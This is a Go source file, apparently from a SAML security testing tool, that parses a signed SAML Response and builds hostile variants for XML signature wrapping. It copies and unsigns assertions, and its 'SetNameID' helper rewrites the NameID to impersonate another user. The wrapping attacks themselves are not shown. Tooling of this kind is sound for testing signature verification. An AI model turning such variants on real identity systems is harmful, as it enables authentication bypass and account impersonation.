package xmlattack

import (
	"errors"
	"fmt"

	"github.com/beevik/etree"
)

// Variant is one hostile message.
type Variant struct {
	Name string
	XML  []byte
}

// Evil turns an assertion into what the attacker wants to be read.
type Evil func(assertion *etree.Element)

// SetNameID is the usual Evil: another user.
func SetNameID(name string) Evil {
	return func(assertion *etree.Element) {
		if el := find(assertion, "NameID"); el != nil {
			el.SetText(name)
		}
	}
}

// message is a parsed good Response, to be bent once.
type message struct {
	doc       *etree.Document
	response  *etree.Element
	assertion *etree.Element
}

func parse(signed []byte) (*message, error) {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(signed); err != nil {
		return nil, fmt.Errorf("attack: %w", err)
	}
	m := &message{doc: doc, response: doc.Root()}
	if m.response == nil || m.response.Tag != "Response" {
		return nil, errors.New("attack: the message is no Response")
	}
	if m.assertion = child(m.response, "Assertion"); m.assertion == nil {
		return nil, errors.New("attack: the Response has no Assertion")
	}
	return m, nil
}

// bytes serialises the message.
func (m *message) bytes() ([]byte, error) {
	return m.doc.WriteToBytes()
}

// signature returns the signature of an element.
func signature(el *etree.Element) *etree.Element { return child(el, "Signature") }

// child returns the first child with the local name.
func child(el *etree.Element, local string) *etree.Element {
	for _, c := range el.ChildElements() {
		if c.Tag == local {
			return c
		}
	}
	return nil
}

// find returns the first descendant with the local name.
func find(el *etree.Element, local string) *etree.Element {
	for _, c := range el.ChildElements() {
		if c.Tag == local {
			return c
		}
		if found := find(c, local); found != nil {
			return found
		}
	}
	return nil
}

// unsigned returns a copy of el without its own signature.
func unsigned(el *etree.Element) *etree.Element {
	c := detached(el)
	if s := signature(c); s != nil {
		c.RemoveChild(s)
	}
	return c
}

// detached returns a copy of el that declares what it inherits, so that it
// means the same wherever it is put.
func detached(el *etree.Element) *etree.Element {
	c := el.Copy()
	for up := el.Parent(); up != nil; up = up.Parent() {
		for _, a := range up.Attr {
			switch {
			case a.Space == "xmlns" && c.SelectAttr("xmlns:"+a.Key) == nil:
				c.CreateAttr("xmlns:"+a.Key, a.Value)
			case a.Space == "" && a.Key == "xmlns" && c.SelectAttr("xmlns") == nil:
				c.CreateAttr("xmlns", a.Value)
			}
		}
	}
	return c
}

// build runs each maker on a message of its own.
func build(signed []byte, makers []maker) ([]Variant, error) {
	var variants []Variant
	for _, mk := range makers {
		m, err := parse(signed)
		if err != nil {
			return nil, err
		}
		if !mk.bend(m) {
			continue // the message lacks what this one bends
		}
		xml, err := m.bytes()
		if err != nil {
			return nil, fmt.Errorf("attack %s: %w", mk.name, err)
		}
		variants = append(variants, Variant{mk.name, xml})
	}
	return variants, nil
}

// maker bends a message; it reports false where the message lacks what it
// needs, such as a signature on the Response.
type maker struct {
	name string
	bend func(*message) bool
}
